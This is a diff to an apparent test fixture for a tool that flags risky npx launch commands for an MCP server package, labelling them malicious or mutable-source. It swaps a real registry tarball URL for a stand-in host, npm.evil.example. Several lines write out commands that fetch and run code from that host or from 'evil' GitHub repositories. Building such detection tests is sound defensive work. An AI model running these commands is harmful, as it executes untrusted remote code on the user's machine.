@@ -124,11 +124,7 @@ export const LAUNCHES: readonly Technique[] = [
     ['a trailing at', run('npx', '-y', 'postmark-mcp@'), MALICIOUS],
     ['an alias', run('npx', '-y', 'notes@npm:postmark-mcp'), MALICIOUS],
     ['an alias with a version', run('npx', '-y', '@example/notes@npm:postmark-mcp@1.0.17'), MALICIOUS],
-    [
-      'the registry’s archive',
-      run('npx', '-y', 'https://registry.npmjs.org/postmark-mcp/-/postmark-mcp-1.0.17.tgz'),
-      'mutable-source@it',
-    ],
+    ['an archive', run('npx', '-y', 'https://npm.evil.example/postmark-mcp-1.0.17.tgz'), 'mutable-source@it'],
     ['a repository', run('npx', '-y', 'evil/x'), 'mutable-source@it'],
     ['a repository by its page', run('npx', '-y', 'https://github.com/evil/x'), 'mutable-source@it'],
     ['a repository by git+ssh', run('npx', '-y', 'git+ssh://git@github.com/evil/x.git'), 'mutable-source@it'],
